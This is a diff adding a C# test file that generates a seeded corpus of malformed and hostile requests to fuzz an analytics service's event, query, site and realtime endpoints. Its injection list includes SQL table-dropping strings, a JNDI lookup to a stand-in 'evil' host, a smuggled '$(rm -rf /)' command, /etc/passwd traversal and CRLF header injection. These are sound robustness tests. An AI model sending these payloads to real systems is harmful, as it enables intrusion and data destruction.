@@ -1,0 +1,359 @@
+using System.Globalization;
+using System.Net;
+using System.Text;
+
+namespace Analytics.Tests.Hostile;
+
+/// <summary>
+/// A generated corpus of hostile requests to every public endpoint. Deterministic: the same seed gives the same
+/// requests, so a failure names a request that can be replayed. Beacons target <see cref="Site"/> only, never the
+/// site the good traffic counts on.
+/// </summary>
+public static class HostileCorpus
+{
+    public const int Seed = 20261123;
+    public const string Site = "hostile.test";
+
+    /// <summary>SQL, CQL and other injection-looking strings, put into every string field.</summary>
+    public static readonly IReadOnlyList<string> Injections =
+    [
+        "' OR '1'='1", "'; DROP TABLE events; --", "\"; DROP KEYSPACE analytics; --", "1; SELECT * FROM grain_state",
+        "Robert'); DELETE FROM checkpoints;--", "' UNION SELECT envelope FROM events --", "admin'/*", "x' AND 1=(SELECT COUNT(*) FROM sqlite_master)--",
+        "${jndi:ldap://evil/a}", "<script>alert(1)</script>", "../../../../etc/passwd", "%00%0d%0a", "\u0000\u0001\u001f",
+        "\ud83d\ude00 emoji", "\u202e right-to-left", "{{7*7}}", "$(rm -rf /)", "\\", "\"", "'",
+    ];
+
+    private static readonly string[] Methods = ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"];
+
+    private static readonly string[] ContentTypes =
+    [
+        "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=utf-16",
+        "image/png", "text/html", "application/json; charset=\"", ";;;", "application/*",
+    ];
+
+    public static IReadOnlyList<HostileRequest> Generate(int seed = Seed)
+    {
+        var random = new Random(seed);
+        var corpus = new List<HostileRequest>();
+        corpus.AddRange(Events(random));
+        corpus.AddRange(Queries(random));
+        corpus.AddRange(Sites(random));
+        corpus.AddRange(Others(random));
+        return corpus;
+    }
+
+    private static string ValidBeacon(string? referrer = null) =>
+        $$"""{"name":"pageview","url":"https://{{Site}}/page","domain":"{{Site}}","referrer":{{(referrer is null ? "null" : Json(referrer))}}}""";
+
+    private static string ValidQuery => $$"""{"site_id":"{{Site}}","metrics":["visitors","pageviews"],"date_range":"7d"}""";
+
+    private static string ValidSite => """{"domain":"hostile-site.test","timezone":"Etc/UTC","cookieless":false,"allowed_hostnames":[]}""";
+
+    private static IEnumerable<HostileRequest> Events(Random random)
+    {
+        const string path = "/api/event";
+        foreach (var r in Generic("event", path, ValidBeacon(), random, ["name", "url", "domain", "referrer", "props", "revenue", "screen_width", "interactive"]))
+        {
+            yield return r;
+        }
+
+        // Injection strings in every string field of an otherwise valid beacon (url as a path and a query).
+        foreach (var text in Injections)
+        {
+            yield return Post("event:inject-name", path, $$"""{"name":{{Json(text)}},"url":"https://{{Site}}/","domain":"{{Site}}"}""");
+            yield return Post("event:inject-url", path, $$"""{"name":"pageview","url":{{Json("https://" + Site + "/" + text + "?q=" + text)}},"domain":"{{Site}}"}""");
+            yield return Post("event:inject-url-raw", path, $$"""{"name":"pageview","url":{{Json(text)}},"domain":"{{Site}}"}""");
+            yield return Post("event:inject-domain", path, $$"""{"name":"pageview","url":"https://{{Site}}/","domain":{{Json(text)}}}""");
+            yield return Post("event:inject-referrer", path, ValidBeacon(text));
+            yield return Post("event:inject-props", path, $$"""{"name":"Signup","url":"https://{{Site}}/","domain":"{{Site}}","props":{{{Json(text)}}:{{Json(text)}}}""" + "}");
+            yield return Post("event:inject-revenue", path, $$"""{"name":"Buy","url":"https://{{Site}}/","domain":"{{Site}}","revenue":{"currency":{{Json(text)}},"amount":{{Json(text)}}}""" + "}");
+            yield return Post("event:inject-visitor", path, $$"""{"n":"pageview","u":"https://{{Site}}/","d":"{{Site}}","v":{{Json(text)}}}""", "text/plain");
+            yield return Post("event:inject-ua", path, ValidBeacon()) .Header("User-Agent", text);
+        }
+
+        // Huge strings in each field (over and under the beacon's byte limit).
+        foreach (var size in new[] { 3000, 100_000, 2_000_000 })
+        {
+            var huge = RandomText(random, size);
+            yield return Post("event:huge-url", path, $$"""{"name":"pageview","url":"https://{{Site}}/{{huge}}","domain":"{{Site}}"}""") with { MustReject = size > 4096 };
+            yield return Post("event:huge-name", path, $$"""{"name":"{{huge}}","url":"https://{{Site}}/","domain":"{{Site}}"}""") with { MustReject = size > 4096 };
+            yield return Post("event:huge-domain", path, $$"""{"name":"pageview","url":"https://{{Site}}/","domain":"{{huge}}"}""") with { MustReject = size > 4096 };
+        }
+
+        // Numbers at and beyond every bound.
+        foreach (var number in new[] { "-1", "0", "2147483648", "-9223372036854775809", "1e308", "1e309", "-0", "0.5", "NaN", "Infinity", "99999999999999999999999999999999" })
+        {
+            yield return Post("event:number-width", path, $$"""{"n":"pageview","u":"https://{{Site}}/","d":"{{Site}}","w":{{number}}}""");
+            yield return Post("event:number-engaged", path, $$"""{"n":"engagement","u":"https://{{Site}}/","d":"{{Site}}","e":{{number}}}""");
+            yield return Post("event:number-revenue", path, $$"""{"n":"Buy","u":"https://{{Site}}/","d":"{{Site}}","$":{"currency":"EUR","amount":{{number}}}""" + "}");
+        }
+
+        // Header injection and abuse: CR/LF in User-Agent and X-Forwarded-For, garbage hops, enormous values.
+        string[] headerValues =
+        [
+            "Mozilla/5.0\r\nX-Injected: 1", "Mozilla/5.0\nSet-Cookie: a=b", "\r\n\r\nGET / HTTP/1.1", "\0", new string('A', 200_000),
+            "Mozilla/5.0 (compatible; Googlebot/2.1)\r\n", "\u00ff\u00fe", "Chrome/120.0\u0000.0",
+        ];
+        string[] forwarded =
+        [
+            "203.0.113.9\r\nX-Injected: 1", "not-an-ip", "999.999.999.999", "1.2.3.4, , ,", "::ffff:10.0.0.1, 10.0.0.1", "fe80::1%eth0",
+            "[2001:db8::1]:443", "1.2.3.4:5678", string.Join(", ", Enumerable.Range(0, 5000).Select(i => $"10.{i / 256 % 256}.{i % 256}.1")),
+            "unknown", "_hidden", "\0\0\0", "2001:db8::" + new string('f', 10_000),
+        ];
+        foreach (var value in headerValues)
+        {
+            yield return Post("event:header-ua", path, ValidBeacon()) .Header("User-Agent", value);
+        }
+
+        foreach (var value in forwarded)
+        {
+            // From a trusted proxy (loopback), so the header is actually walked.
+            yield return Post("event:header-xff", path, ValidBeacon()) .Header("X-Forwarded-For", value) with { RemoteIp = IPAddress.Loopback };
+        }
+
+        yield return Post("event:header-many", path, ValidBeacon()) with
+        {
+            Headers = Enumerable.Range(0, 500).ToDictionary(i => $"X-Junk-{i}", i => RandomText(random, 100)),
+        };
+        yield return Post("event:header-content-length-lie", path, ValidBeacon()) .Header("Content-Length", "99999999999") with { MustReject = true };
+    }
+
+    private static IEnumerable<HostileRequest> Queries(Random random)
+    {
+        const string path = "/api/v2/query";
+        foreach (var r in Generic("query", path, ValidQuery, random, ["site_id", "metrics", "date_range", "dimensions", "filters", "order_by", "pagination", "date"]))
+        {
+            yield return r;
+        }
+
+        // Absurd dates and ranges.
+        string[] ranges =
+        [
+            """["0001-01-01","0001-01-01"]""", """["9999-12-31","9999-12-31"]""", """["0001-01-01","9999-12-31"]""", """["9999-12-30","9999-12-31"]""",
+            """["0001-01-01T00:00:00Z","0001-01-01T05:00:00Z"]""", """["9999-12-31T20:00:00Z","9999-12-31T23:59:59Z"]""",
+            """["9999-12-31T23:59:59-14:00","9999-12-31T23:59:59-14:00"]""", """["0001-01-01T00:00:00+14:00","0001-01-01T01:00:00+14:00"]""",
+            """["2026-02-30","2026-03-01"]""", """["2026-13-01","2026-13-02"]""", """["-2026-01-01","2026-01-01"]""", """["+002026-01-01","2026-01-02"]""",
+            """["2026-01-01",null]""", """[1,2]""", """[]""", """["2026-01-01","2026-01-02","2026-01-03"]""", "\"\"", "null", "42", "{}", "\"9999d\"",
+            """["2026-01-01T00:00:00Z","2025-01-01T00:00:00Z"]""", """["1970-01-01T00:00:00Z","2026-01-01T00:00:00Z"]""",
+        ];
+        string[] dates = ["\"0001-01-01\"", "\"9999-12-31\"", "\"0000-00-00\"", "\"2026-02-29\"", "null", "20260101", "\"2026-01-01T00:00:00Z\""];
+        string[] presets = ["day", "7d", "28d", "30d", "91d", "month", "6mo", "12mo", "year", "all"];
+        string[] dimensionSets = ["[]", """["time"]""", """["time:hour"]""", """["time:day"]""", """["event:page","time:day"]""", """["visit:source","time:hour"]"""];
+        foreach (var range in ranges)
+        {
+            foreach (var dimensions in dimensionSets)
+            {
+                yield return Post("query:range", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":{{range}},"dimensions":{{dimensions}}}""");
+            }
+        }
+
+        foreach (var date in dates)
+        {
+            foreach (var preset in presets)
+            {
+                var dimensions = dimensionSets[random.Next(dimensionSets.Length)];
+                yield return Post("query:date", path, $$"""{"site_id":"{{Site}}","metrics":["visitors","visit_duration"],"date_range":"{{preset}}","date":{{date}},"dimensions":{{dimensions}}}""");
+            }
+        }
+
+        // Pagination, metrics and filters at and beyond their bounds.
+        foreach (var number in new[] { "-1", "0", "2147483648", "1e308", "0.5", "\"10\"", "null", "99999999999999999999999" })
+        {
+            yield return Post("query:pagination", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"pagination":{"limit":{{number}},"offset":{{number}}}""" + "}");
+        }
+
+        var manyMetrics = string.Join(",", Enumerable.Repeat("\"visitors\"", 20_000));
+        yield return Post("query:many-metrics", path, $$"""{"site_id":"{{Site}}","metrics":[{{manyMetrics}}],"date_range":"day"}""");
+        var manyValues = string.Join(",", Enumerable.Range(0, 20_000).Select(i => Json("/p" + i)));
+        yield return Post("query:many-filter-values", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"filters":[["is","event:page",[{{manyValues}}]]]}""");
+        var manyFilters = string.Join(",", Enumerable.Range(0, 2_000).Select(_ => """["contains","event:page",["a"]]"""));
+        yield return Post("query:many-filters", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","filters":[{{manyFilters}}]}""");
+        var manyOrders = string.Join(",", Enumerable.Range(0, 2_000).Select(_ => """["visitors","desc"]"""));
+        yield return Post("query:many-orders", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"order_by":[{{manyOrders}}]}""");
+
+        foreach (var text in Injections)
+        {
+            yield return Post("query:inject-site", path, $$"""{"site_id":{{Json(text)}},"metrics":["visitors"],"date_range":"day"}""") with { MustReject = true };
+            yield return Post("query:inject-metric", path, $$"""{"site_id":"{{Site}}","metrics":[{{Json(text)}}],"date_range":"day"}""") with { MustReject = true };
+            yield return Post("query:inject-range", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":{{Json(text)}}}""") with { MustReject = true };
+            yield return Post("query:inject-dimension", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":[{{Json(text)}}]}""") with { MustReject = true };
+            yield return Post("query:inject-filter", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["event:page"],"filters":[["is","event:page",[{{Json(text)}}]],[{{Json(text)}},"event:page",["x"]]]}""") with { MustReject = true };
+            yield return Post("query:inject-filter-value", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","dimensions":["visit:source"],"filters":[["contains","visit:source",[{{Json(text)}}]]]}""");
+            yield return Post("query:inject-order", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","order_by":[["visitors",{{Json(text)}}]]}""") with { MustReject = true };
+            yield return Post("query:inject-date", path, $$"""{"site_id":"{{Site}}","metrics":["visitors"],"date_range":"day","date":{{Json(text)}}}""") with { MustReject = true };
+            yield return new HostileRequest("realtime:inject", "GET", "/api/v1/realtime/visitors", "?site_id=" + Uri.EscapeDataString(text));
+        }
+
+        yield return Post("query:huge-site", path, $$"""{"site_id":"{{RandomText(random, 500_000)}}","metrics":["visitors"],"date_range":"day"}""") with { MustReject = true };
+        yield return new HostileRequest("realtime:huge", "GET", "/api/v1/realtime/visitors", "?site_id=" + RandomText(random, 6_000));
+        yield return new HostileRequest("realtime:repeated", "GET", "/api/v1/realtime/visitors", $"?site_id={Site}&site_id=other.test");
+        yield return new HostileRequest("realtime:crlf", "GET", "/api/v1/realtime/visitors", "?site_id=a%0d%0aX-Injected:%201");
+        yield return new HostileRequest("realtime:empty", "GET", "/api/v1/realtime/visitors", "?site_id=") { MustReject = true };
+        yield return new HostileRequest("realtime:bad-escape", "GET", "/api/v1/realtime/visitors", "?site_id=%ZZ%");
+    }
+
+    private static IEnumerable<HostileRequest> Sites(Random random)
+    {
+        const string path = "/api/sites";
+        foreach (var r in Generic("sites", path, ValidSite, random, ["domain", "timezone", "cookieless", "allowed_hostnames"]))
+        {
+            yield return r;
+        }
+
+        foreach (var text in Injections)
+        {
+            yield return Post("sites:inject-domain", path, $$"""{"domain":{{Json(text)}}}""") with { MustReject = true };
+            yield return Post("sites:inject-timezone", path, $$"""{"domain":"tz.test","timezone":{{Json(text)}}}""") with { MustReject = true };
+            yield return Post("sites:inject-hostnames", path, $$"""{"domain":"hn.test","allowed_hostnames":[{{Json(text)}}]}""") with { MustReject = true };
+            if (!text.Contains('\0', StringComparison.Ordinal))
+            {
+                // A NUL in the path never reaches the app (Kestrel refuses it: KestrelLimitTests); the in-memory server cannot carry one.
+                yield return new HostileRequest("sites:inject-get", "GET", "/api/sites/" + Uri.EscapeDataString(text));
+            }
+        }
+
+        string[] timezones = ["Etc/GMT+14", "Etc/GMT-15", "../../../etc/localtime", "/etc/passwd", "UTC\0", "Local", "", " ", new string('Z', 100_000), "Europe/Berlin/../../x"];
+        foreach (var zone in timezones)
+        {
+            yield return Post("sites:timezone", path, $$"""{"domain":"tz.test","timezone":{{Json(zone)}}}""");
+        }
+
+        yield return Post("sites:many-hostnames", path, $$"""{"domain":"hn.test","allowed_hostnames":[{{string.Join(",", Enumerable.Range(0, 50_000).Select(i => $"\"h{i}.test\""))}}]}""") with { MustReject = true };
+        yield return Post("sites:huge-domain", path, $$"""{"domain":"{{RandomText(random, 300_000)}}"}""") with { MustReject = true };
+        yield return new HostileRequest("sites:huge-get", "GET", "/api/sites/" + new string('a', 10_000));
+        yield return new HostileRequest("sites:encoded-get", "GET", "/api/sites/%0d%0a..%2f..%2f%2e%2e");
+    }
+
+    private static IEnumerable<HostileRequest> Others(Random random)
+    {
+        // Unknown paths, the tracker with odd headers, and probes with wrong methods.
+        yield return new HostileRequest("tracker:etag", "GET", "/js/script.js") { Headers = { ["If-None-Match"] = RandomText(random, 50_000), ["Accept-Encoding"] = "gzip;q=NaN, \r\n br" } };
+        yield return new HostileRequest("tracker:post", "POST", "/js/script.js") { Body = [1, 2, 3], MustReject = true };
+        yield return new HostileRequest("unknown:path", "GET", "/api/v3/query") { MustReject = true };
+        yield return new HostileRequest("unknown:traversal", "GET", "/../../etc/passwd") { MustReject = true };
+        yield return new HostileRequest("unknown:encoded", "GET", "/api/%2e%2e/%2e%2e/data/grains.db") { MustReject = true };
+        foreach (var method in new[] { "PUT", "DELETE", "PATCH" })
+        {
+            yield return new HostileRequest("wrong-method:realtime", method, "/api/v1/realtime/visitors", $"?site_id={Site}") { MustReject = true };
+            yield return new HostileRequest("wrong-method:site", method, $"/api/sites/{Site}") { MustReject = true };
+            yield return new HostileRequest("wrong-method:tracker", method, "/js/script.js") { MustReject = true };
+        }
+    }
+
+    /// <summary>What every JSON endpoint gets: malformed, truncated, invalid UTF-8, deep, wrong types, unknown and missing fields, odd content types and methods.</summary>
+    private static IEnumerable<HostileRequest> Generic(string kind, string path, string valid, Random random, string[] fields)
+    {
+        var bytes = Encoding.UTF8.GetBytes(valid);
+
+        // Truncated at every length.
+        for (var length = 0; length < bytes.Length; length += 1 + random.Next(3))
+        {
+            yield return Post($"{kind}:truncated", path, bytes[..length]) with { MustReject = true };
+        }
+
+        // Malformed JSON.
+        string[] malformed = ["{", "}", "[", "{\"a\":}", "{'name':'pageview'}", "{\"a\" 1}", "{,}", "[1,]", "{\"a\":1,}", "nul", "tru", "\"", "\"\\u12\"",
+            "{\"a\":\"\\x41\"}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":1e}", "// comment\n{}", "{} {}", "\uFEFF{}", "{\"a\":NaN}", "<xml/>", "a=1&b=2", " ", "\0"];
+        foreach (var text in malformed)
+        {
+            yield return Post($"{kind}:malformed", path, text) with { MustReject = true };
+        }
+
+        // Valid JSON of the wrong shape.
+        foreach (var text in new[] { "null", "true", "0", "\"text\"", "[]", "[{}]", "{}" })
+        {
+            yield return Post($"{kind}:wrong-root", path, text) with { MustReject = true };
+        }
+
+        // Invalid UTF-8 spliced into the middle of a string value, and random byte flips.
+        byte[][] invalidUtf8 = [[0xFF], [0xC3, 0x28], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xC0, 0xAF], [0x80]];
+        var inString = Array.IndexOf(bytes, (byte)':') + 2; // just after the opening quote of the first value
+        var beforeValue = Array.IndexOf(bytes, (byte)':') + 1;
+        foreach (var sequence in invalidUtf8)
+        {
+            yield return Post($"{kind}:invalid-utf8-in-string", path, [.. bytes[..inString], .. sequence, .. bytes[inString..]]) with { MustReject = true };
+            yield return Post($"{kind}:invalid-utf8-between-tokens", path, [.. bytes[..beforeValue], .. sequence, .. bytes[beforeValue..]]) with { MustReject = true };
+        }
+
+        for (var i = 0; i < 25; i++)
+        {
+            var flipped = (byte[])bytes.Clone();
+            flipped[random.Next(flipped.Length)] = (byte)random.Next(256);
+            yield return Post($"{kind}:byte-flip", path, flipped);
+        }
+
+        // Deep nesting, as the whole body and inside a field.
+        foreach (var depth in new[] { 9, 17, 65, 1000, 100_000 })
+        {
+            yield return Post($"{kind}:deep-array", path, new string('[', depth) + new string(']', depth)) with { MustReject = true };
+            var nested = string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
+            yield return Post($"{kind}:deep-field", path, valid.TrimEnd('}') + ",\"" + fields[random.Next(fields.Length)] + "\":" + nested + "}");
+        }
+
+        // Unknown fields (ignored) and each field missing.
+        yield return Post($"{kind}:unknown-fields", path, valid.TrimEnd('}') + ",\"__proto__\":{\"admin\":true},\"constructor\":1,\"\":null,\"x\":[1,{\"y\":2}]}");
+        yield return Post($"{kind}:duplicate-fields", path, valid.TrimEnd('}') + "," + valid.TrimStart('{'));
+        foreach (var field in fields)
+        {
+            yield return Post($"{kind}:missing-{field}", path, RemoveField(valid, field));
+
+            // Wrong types in every field.
+            foreach (var wrong in new[] { "42", "-1.5", "true", "[]", "[1,\"a\"]", "{}", "{\"a\":[]}", "\"\"", "null", "\"" + new string('x', 300) + "\"" })
+            {
+                yield return Post($"{kind}:type-{field}", path, SetField(valid, field, wrong));
+            }
+        }
+
+        // Content types the endpoint does not take, and none at all.
+        foreach (var contentType in ContentTypes)
+        {
+            yield return Post($"{kind}:content-type", path, valid, contentType);
+        }
+
+        yield return Post($"{kind}:no-content-type", path, valid, contentType: null);
+        yield return Post($"{kind}:empty", path, "") with { MustReject = true };
+
+        // Wrong methods.
+        foreach (var method in Methods)
+        {
+            yield return new HostileRequest($"{kind}:method", method, path) { Body = bytes, ContentType = "application/json" };
+        }
+    }
+
+    private static HostileRequest Post(string kind, string path, string body, string? contentType = "application/json") =>
+        Post(kind, path, Encoding.UTF8.GetBytes(body), contentType);
+
+    private static HostileRequest Post(string kind, string path, byte[] body, string? contentType = "application/json") =>
+        new(kind, "POST", path) { Body = body, ContentType = contentType };
+
+    private static string Json(string text) => System.Text.Json.JsonSerializer.Serialize(text);
+
+    private static string RemoveField(string json, string field)
+    {
+        var node = System.Text.Json.Nodes.JsonNode.Parse(json)!.AsObject();
+        node.Remove(field);
+        return node.ToJsonString();
+    }
+
+    private static string SetField(string json, string field, string rawValue)
+    {
+        var node = System.Text.Json.Nodes.JsonNode.Parse(json)!.AsObject();
+        node[field] = System.Text.Json.Nodes.JsonNode.Parse(rawValue);
+        return node.ToJsonString();
+    }
+
+    private static string RandomText(Random random, int length)
+    {
+        const string alphabet = "abcdefghijklmnopqrstuvwxyz0123456789-._~";
+        var chars = new char[length];
+        for (var i = 0; i < length; i++)
+        {
+            chars[i] = alphabet[random.Next(alphabet.Length)];
+        }
+
+        return new string(chars);
+    }
+
+    public static string Describe(IEnumerable<HostileRequest> requests) =>
+        string.Join(", ", requests.GroupBy(r => r.Kind.Split(':')[0]).Select(g => g.Key + "=" + g.Count().ToString(CultureInfo.InvariantCulture)));
+}
